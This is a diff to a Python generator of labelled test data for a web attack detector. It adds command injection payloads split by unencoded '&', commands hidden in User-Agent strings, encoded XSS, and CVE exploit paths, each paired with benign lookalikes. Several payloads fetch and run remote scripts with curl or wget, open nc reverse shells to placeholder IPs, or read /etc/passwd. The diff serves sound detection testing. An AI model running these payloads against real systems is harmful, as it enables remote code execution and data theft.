@@ -946,6 +946,137 @@ def round3():
     return sqli, cmdi
 
 
+# ---- fourth round (issue 21, h21c): what the fast path and the query's
+# split hid. Gap 1: a payload whose '&' or "&&" was sent unencoded, so
+# the query splits inside it ("?ip=127.0.0.1&&cat /etc/passwd"). The
+# separators are commix's (";", "&", "|", "&&", "||", newline: its
+# settings.py SEPARATORS_LVL1, which recent versions write raw and encode
+# last), the shapes those of its classic and time-based techniques
+# (echo TAG$((a+b))$(echo TAG)TAG, sleep N), of DVWA's command injection
+# exercise and PortSwigger's probes ("& whoami &", "||ping -c 10 ...||");
+# "&& sysinfo" and "| dir c:/" are the issue's. The benign twins follow
+# the form encoding's grammar (the WHATWG URL Standard's
+# application/x-www-form-urlencoded parser: '&' splits, an empty
+# sequence is skipped, a sequence without '=' is a name with an empty
+# value) and RFC 3986, where '&' is only a sub-delimiter: doubled and
+# trailing '&', flags without a value, an unencoded '&' inside a value.
+rnd4 = random.Random(2026120701)
+
+CMDI_R4_AMP = [
+    "127.0.0.1&&cat /etc/passwd", "127.0.0.1&&id", "127.0.0.1&whoami", "127.0.0.1 && sysinfo",
+    "127.0.0.1&& dir c:/", "127.0.0.1 & ipconfig /all", "127.0.0.1&net user", "localhost&&uname -a",
+    "8.8.8.8&&ls -la /var/www", "1&&sleep 5", "1&sleep 5&", "x&&echo JRKVSV$((41+12))$(echo JRKVSV)JRKVSV",
+    "& whoami &", "&&pwd", "test&&ps aux", "127.0.0.1&&wget http://203.0.113.9/x.sh -O /tmp/x",
+    "127.0.0.1 & ping -n 3 127.0.0.1 &", "example.com&&nslookup x.oast.example", "1&id&",
+    "127.0.0.1&&curl http://203.0.113.9/a|sh", "a&&tasklist", "127.0.0.1&&type c:/windows/win.ini",
+]
+
+XSS_R4_AMP = [  # HTML entities with their '&' unencoded: each '&' splits the query
+    # (a tag with an attribute, "&lt;img src=x ...", splits into a segment
+    # with '=', a parameter of its own to the form grammar: not joined)
+    "&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;script&gt;alert(document.cookie)&lt;/script&gt;",
+    "&quot;&gt;&lt;script&gt;prompt(1)&lt;/script&gt;",
+]
+
+BENIGN_R4_AMP = [
+    "/search?q=shoes&&page=2", "/search?q=shoes&", "/list?print&page=2", "/list?page=2&print",
+    "/search?q=Tom&Jerry", "/search?q=AT&T+phones", "/search?q=salt&pepper&sort=price",
+    "/item?id=42&preview", "/cart?add&sku=123", "/feed?rss&lang=en", "/wiki/Main?action=edit&minor",
+    "/search?q=rock&roll", "/x?a=1&b&c=2", "/docs?toc&section=3", "/search?q=black&decker",
+    "/search?q=dogs&cats+toys", "/x?&a=1", "/service.asmx?wsdl", "/search?q=Johnson&Johnson+shampoo",
+    "/search?q=M&S+food&&sort=new", "/img/a.png?v=3&&", "/s?q=bed&breakfast+kyoto",
+    "/s?q=Barnes&Noble", "/s?q=P&O+ferries", "/news?id=7&amp;page=2", "/s?q=R&D+jobs&page=3",
+    "/s?q=Q&A", "/s?q=H&M&color=red", "/s?q=fish&chips&near=me", "/s?q=Ben&Jerry%27s",
+    "/api/items?limit=20&&offset=40", "/s?q=drag&drop+upload", "/watch?v=abc123&feature=share&",
+]
+
+
+# Gap 2: a command in the user agent, where every browser sends ';', '('
+# and ')'. The issue's forms, and commix's header injection (it tests the
+# User-Agent at --level 3 with the same separators and payloads as a
+# parameter); the benign twins are agents real clients send, in-app
+# browsers, crawlers and libraries among them.
+UA_CMDI_R4 = [
+    "Mozilla/5.0; $(curl x|sh)", "`wget http://203.0.113.9/x -O /tmp/x`", "Mozilla/5.0; nc -e /bin/sh 203.0.113.5 4444",
+    "Mozilla/5.0 (X11; Linux x86_64); id", "Mozilla/5.0;echo JRKVSV$((41+12))$(echo JRKVSV)JRKVSV",
+    "Mozilla/5.0;sleep 5", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) && whoami", "; nc -e sh 203.0.113.5 4444",
+    "Mozilla/5.0|id", "Mozilla/5.0 (compatible; MSIE 9.0); cat /etc/passwd", "x;uname -a",
+    "Mozilla/5.0 (Windows NT 6.1) & ipconfig /all", "Mozilla/5.0;ls -la /var/www",
+]
+
+BENIGN_UA_R4 = [
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
+    "[FBAN/FBIOS;FBAV/456.0.0.41.109;FBBV/580012345;FBDV/iPhone14,2;FBMD/iPhone;FBSN/iOS;FBSV/17.4;FBSS/3;FBID/phone;"
+    "FBLC/ja_JP;FBOP/5;FBRV/0]",
+    "Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36 Instagram 330.0.0.40.92 Android (33/13; 450dpi; "
+    "1080x2177; samsung; SM-A536B; a53x; s5e8825; ja_JP; 594512345)",
+    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.1; Trident/6.0)",
+    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
+    "Dalvik/2.1.0 (Linux; U; Android 13; SM-A536B Build/TP1A.220624.014)",
+    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
+    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
+    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
+    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+    "okhttp/4.12.0", "python-requests/2.31.0", "Go-http-client/1.1", "Wget/1.21.3", "Wget/1.21.3 (linux-gnu)",
+    "curl/7.88.1", "Java/17.0.9", "Apache-HttpClient/4.5.14 (Java/17.0.9)",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 "
+    "Safari/605.1.15 Line/14.5.0",
+    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile "
+    "Safari/537.36 EdgA/124.0.2478.64",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 "
+    "OPR/110.0.0.0",
+    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17531; Pro)",
+    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; .NET4.0C; .NET4.0E; .NET CLR 2.0.50727; "
+    ".NET CLR 3.0.30729; .NET CLR 3.5.30729; Microsoft Outlook 16.0.5435; ms-office; MSOffice 16)",
+    "Mozilla/5.0 (PlayStation; PlayStation 5/8.20) AppleWebKit/605.1.15 (KHTML, like Gecko)",
+    "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) 76.0.3809.146/6.0 TV Safari/537.36",
+    "Googlebot-Image/1.0", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
+    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)",
+]
+
+
+# Gap 3: exploit paths with sqlmap's percentage tamper (a '%' before
+# every letter, which ASP drops), on the paths of the advisories: Oracle
+# WebLogic CVE-2020-14882 (console.portal) and CVE-2017-10271
+# (wls-wsat), PHPUnit CVE-2017-9841 (eval-stdin.php),
+# Liferay CVE-2020-7961 (/api/jsonws/invoke), F5 BIG-IP CVE-2020-5902
+# (tmui). (A 'u' spelled "%u" is taken for an IIS escape and kept by
+# normalization, so "invokefunction" so spelled is not joined: left out.)
+def e_percentage(p):  # sqlmap tamper/percentage.py: "%S%E%L%E%C%T"
+    return "".join("%" + c if c.isalpha() else c for c in p)
+
+
+EXPLOIT_R4_PCT = [
+    ("/console/css/%252e%252e%252f", "console.portal", ""),
+    ("/console/", "console.portal", "?_nfpb=true&_pageLabel=HomePage1"),
+    ("/", "wls-wsat", "/CoordinatorPortType"),
+    ("/vendor/phpunit/phpunit/src/Util/PHP/", "eval-stdin.php", ""),
+    ("", "/api/jsonws/invoke", ""),
+    ("/tmui/login.jsp/..;/tmui/locallb/workspace/", "fileRead.jsp", "?fileName=/etc/passwd"),
+]
+
+
+def round4():
+    cmdi = []
+    for p in CMDI_R4_AMP:
+        for sp in rnd4.sample(["+", "%20"], 2):
+            cmdi.append("%s?%s=%s%s" % (rnd4.choice(ENDPOINTS), rnd4.choice(["ip", "host", "addr", "target"]),
+                                        p.replace(" ", sp).replace("|", "%7C"),
+                                        rnd4.choice(["", "&submit=Submit", "&page=2"])))
+    cmdi.append("/\tREF:http://router.example/ping.cgi?ip=127.0.0.1&&id")
+    for ua in UA_CMDI_R4:
+        cmdi.append("%s\tUA:%s" % (rnd4.choice(ENDPOINTS), ua))
+    exploit = []
+    for pre, word, post in EXPLOIT_R4_PCT:
+        exploit.append(pre + e_percentage(word) + post)
+    xss = []
+    for p in XSS_R4_AMP:
+        xss.append("%s?%s=%s" % (rnd4.choice(ENDPOINTS), rnd4.choice(["q", "name", "comment"]),
+                                 p.replace(" ", "+")))
+    return cmdi, xss, exploit
+
+
 def benign_lines():
     out = list(TRICKY)
     for name in NAMES + WORDS_JA + WORDS_DE + WORDS_FR:
@@ -1018,6 +1149,12 @@ def main():
           "server-side code injection: PHP, templates, expression languages, deserialisation, XXE")
     write("benign.txt", benign + BENIGN_R2, "benign traffic, much of it built to fool a keyword grep")
     append("benign.txt", BENIGN_R3, "third round (issue 21: lists of names, arithmetic with '+')")
+    cmdi4, xss4, exploit4 = round4()
+    append("attacks/exploit.txt", exploit4, "fourth round (issue 21: exploit paths with stray '%')")
+    append("attacks/cmdi.txt", cmdi4, "fourth round (issue 21: a payload's '&' or '&&' unencoded)")
+    append("attacks/xss.txt", xss4, "fourth round (issue 21: entities with their '&' unencoded)")
+    append("benign.txt", BENIGN_R4_AMP + ["/\tUA:" + ua for ua in BENIGN_UA_R4],
+           "fourth round (issue 21: doubled, trailing and bare '&', an '&' inside a value; user agents)")
 
 
 if __name__ == "__main__":
